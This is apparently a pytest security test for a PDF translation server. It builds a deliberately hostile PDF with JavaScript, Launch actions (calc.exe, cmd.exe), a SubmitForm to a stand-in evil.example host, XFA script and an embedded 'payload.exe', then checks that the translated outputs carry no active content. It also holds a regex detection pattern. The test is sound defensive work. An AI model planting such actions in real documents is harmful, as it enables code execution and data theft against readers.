"""Active content in every output the server writes: none carries an action that runs code or
launches anything.

Security bar: ``test_no_output_carries_active_content_in_any_shape`` (item 2).

A paper is built with active content in every place a PDF can hold it: the catalog's
``/OpenAction`` and ``/AA``, a page's ``/AA``, annotations' ``/A`` and ``/AA`` (page-open Launch,
mouse-enter JavaScript), link annotations with each kind of action (JavaScript, Launch,
ImportData, SubmitForm, ResetForm, Rendition, GoToR, GoToE, a ``javascript:`` URI, a name
spelled with ``#`` escapes), a form field with scripts in its widget's ``/A`` and ``/AA`` and a
parent field with its own, outline entries with a script action and with a ``/Next`` chain, the
``/JavaScript`` and ``/EmbeddedFiles`` name trees, an XFA form, a file attachment. It is
translated by the real server with the fake vLLM, and every object of the mono and dual outputs
is walked: none of these action types, scripts or embedded files is left, while the
translation, the web link, the link inside the document and the outline still work.
"""

from __future__ import annotations

import re

import pymupdf
import pytest

from tests.helpers.pdfgen.textbox import small_paper
from tests.helpers.server import PARAGRAPHS, RunningServer, hangul_count, plugin_body

# The fixtures ``fake_llm`` and ``srv`` (pytest finds them by these imports).
from tests.helpers.server import fake_llm_fixture as fake_llm_fixture
from tests.helpers.server import srv_fixture as srv_fixture

SAFE_URL = "https://example.org/paper"
PAYLOAD = b"MZ-payload-" + bytes(3000)
#: Action dictionaries a viewer would run, one per link annotation.
HOSTILE_ACTIONS = (
    "<</S/JavaScript/JS(app.alert('link'))>>",
    "<</S/Launch/F(calc.exe)/Win<</F(cmd.exe)>>>>",
    "<</S/ImportData/F(data.fdf)>>",
    "<</S/SubmitForm/F<</FS/URL/F(https://evil.example/collect)>>>>",
    "<</S/ResetForm>>",
    "<</S/Rendition/OP 0/JS(app.alert('rendition'))>>",
    "<</S/GoToR/F(other.pdf)/D[0/Fit]/NewWindow true>>",
    "<</S/GoToE/T<</R/C/N(payload.exe)>>/D[0/Fit]>>",
    "<</S/URI/URI( javascript:app.alert('uri'))>>",
    "<</S/Java#53cript/JS(app.alert('escaped'))>>",
)
FORBIDDEN_ACTIONS = (
    "JavaScript",
    "Launch",
    "ImportData",
    "SubmitForm",
    "ResetForm",
    "Rendition",
    "GoToR",
    "GoToE",
)
FORBIDDEN = re.compile(
    r"/S\s*/(?:" + "|".join(FORBIDDEN_ACTIONS) + r")\b"
    r"|/(?:JS|AA|OpenAction|EmbeddedFiles?|EF|XFA)\b|javascript:",
    re.IGNORECASE,
)


def hostile_paper() -> bytes:
    """Two pages of text with active content in every shape the module docstring lists."""
    doc = pymupdf.open(stream=small_paper(pages=2, paragraphs=PARAGRAPHS))
    first = doc[0]
    first.insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(72, 470, 200, 482),
                       "uri": SAFE_URL})  # fmt: skip
    first.insert_link({"kind": pymupdf.LINK_GOTO, "from": pymupdf.Rect(300, 470, 400, 482),
                       "page": 1, "to": pymupdf.Point(72, 100)})  # fmt: skip
    for i in range(len(HOSTILE_ACTIONS)):
        y = 500 + 14 * i
        first.insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(72, y, 200, y + 10),
                           "uri": f"https://example.org/hostile/{i}"})  # fmt: skip
    first.add_text_annot((450, 700), "a reader's note")
    first.add_file_annot((480, 700), PAYLOAD, "attached.exe")
    widget = pymupdf.Widget()
    widget.field_type = pymupdf.PDF_WIDGET_TYPE_TEXT
    widget.field_name = "comments"
    widget.rect = pymupdf.Rect(300, 700, 420, 720)
    widget.script = "app.alert('field action')"
    widget.script_focus = "app.alert('focus')"
    widget.script_stroke = "app.launchURL('https://evil.example')"
    first.add_widget(widget)
    doc.set_toc([[1, "Introduction", 1], [1, "Results", 2]])
    doc.embfile_add("payload.exe", PAYLOAD, filename="payload.exe")
    data = doc.tobytes()
    doc.close()

    doc = pymupdf.open(stream=data)
    first, second = doc[0].xref, doc[1].xref
    note = doc[0].first_annot.xref
    links = doc[0].get_links()
    hostile_links = [link["xref"] for link in links if "/hostile/" in link.get("uri", "")]
    for xref, action in zip(hostile_links, HOSTILE_ACTIONS, strict=True):
        doc.xref_set_key(xref, "A", action)
    doc.xref_set_key(
        note,
        "AA",
        "<</PO<</S/Launch/F(calc.exe)>>/E<</S/JavaScript/JS(app.alert('enter'))>>>>",
    )
    script = doc.get_new_xref()
    doc.update_object(script, "<</S/JavaScript/JS(app.alert('open'))>>")
    catalog = doc.pdf_catalog()
    doc.xref_set_key(catalog, "OpenAction", f"{script} 0 R")
    doc.xref_set_key(catalog, "AA", "<</WC<</S/Launch/F(cleanup.exe)>>>>")
    doc.xref_set_key(catalog, "Names/JavaScript", f"<</Names[(init) {script} 0 R]>>")
    xfa = doc.get_new_xref()
    doc.update_object(xfa, "<<>>")
    doc.update_stream(xfa, b"<template><script>app.alert('xfa')</script></template>")
    doc.xref_set_key(catalog, "AcroForm/XFA", f"[(template) {xfa} 0 R]")
    parent = doc.get_new_xref()
    doc.update_object(
        parent,
        "<</FT/Btn/T(hidden)/A<</S/SubmitForm/F(https://evil.example)>>"
        "/AA<</F<</S/JavaScript/JS(app.alert('format'))>>>>>>",
    )
    fields = doc.xref_get_key(catalog, "AcroForm/Fields")[1]
    doc.xref_set_key(catalog, "AcroForm/Fields", fields.rstrip("]") + f" {parent} 0 R]")
    doc.xref_set_key(first, "AA", "<</O<</S/JavaScript/JS(app.alert('page'))>>>>")
    intro, results = doc.get_outline_xrefs()
    doc.xref_set_key(intro, "Dest", f"[{first} 0 R/Fit]")  # where the entry still leads
    doc.xref_set_key(intro, "A", "<</S/JavaScript/JS(app.alert('outline'))>>")
    doc.xref_set_key(
        results,
        "A",
        f"<</S/GoTo/D[{second} 0 R/Fit]/Next[<</S/Launch/F(calc.exe)>>"
        "<</S/JavaScript/JS(app.alert('chain'))>>]>>",
    )
    out: bytes = doc.tobytes()
    doc.close()
    return out


def active_objects(pdf: bytes) -> list[str]:
    """Every object of ``pdf`` (and every stream) holding something a viewer could run."""
    found = []
    with pymupdf.open(stream=pdf, filetype="pdf") as doc:
        if doc.embfile_count():
            found.append(f"embedded files: {doc.embfile_names()}")
        for xref in range(1, doc.xref_length()):
            text = doc.xref_object(xref, compressed=True)
            if FORBIDDEN.search(text):
                found.append(f"{xref}: {text}")
            action = doc.xref_get_key(xref, "S")
            if action[0] == "name" and action[1].lstrip("/") in FORBIDDEN_ACTIONS:
                found.append(f"{xref}: action {action[1]}")
            if doc.xref_is_stream(xref) and PAYLOAD in (doc.xref_stream(xref) or b""):
                found.append(f"{xref}: the payload")
    if PAYLOAD in pdf:
        found.append("the payload, in the file's bytes")
    return found


def test_the_hostile_paper_has_every_shape() -> None:
    """Origin: hardening, issue 20 item 2 (a PDF built to hurt)."""
    pdf = hostile_paper()
    found = "\n".join(active_objects(pdf))
    for action in FORBIDDEN_ACTIONS:
        assert f"/S/{action}" in found.replace(" ", ""), action
    for key in ("/AA", "/OpenAction", "/EmbeddedFiles", "/XFA", "/Next[", "javascript:"):
        assert key in found, key
    with pymupdf.open(stream=pdf) as doc:
        assert doc.embfile_count() == 1
        assert [a.type[1] for a in doc[0].annots()] == ["Text", "FileAttachment"]
        assert [w.field_name for w in doc[0].widgets()] == ["comments"]
        assert len(doc.get_toc()) == 2


@pytest.mark.parametrize("dual_mode", ["LR", "TB"])
def test_no_output_carries_active_content_in_any_shape(srv: RunningServer, dual_mode: str) -> None:
    """Origin: hardening, issue 20 item 2 (a PDF built to hurt)."""
    body = plugin_body(hostile_paper(), "hostile.pdf", dualMode=dual_mode)
    with srv.client() as client:
        answer = client.post("/translate", json=body)
        assert answer.status_code == 200, answer.text
        names = answer.json()["fileList"]
        outputs = {name: client.get(f"/translatedFile/{name}") for name in names}
    assert sorted(n.rsplit("-", 1)[-1] for n in outputs) == ["dual.pdf", "mono.pdf"]
    for name, got in outputs.items():
        assert got.status_code == 200, name
        assert active_objects(got.content) == [], name
        with pymupdf.open(stream=got.content) as doc:
            assert hangul_count("".join(page.get_text() for page in doc)) > 20, name
    (mono,) = [got.content for name, got in outputs.items() if name.endswith("-mono.pdf")]
    with pymupdf.open(stream=mono) as doc:
        links = doc[0].get_links()
        assert [link.get("uri") for link in links if link["kind"] == pymupdf.LINK_URI] == [SAFE_URL]
        assert [link["page"] for link in links if link["kind"] == pymupdf.LINK_GOTO] == [1]
        assert [entry[:3] for entry in doc.get_toc()] == [[1, "Introduction", 1], [1, "Results", 2]]
        notes = [annot.info["content"] for annot in doc[0].annots()]
        assert "a reader's note" in notes
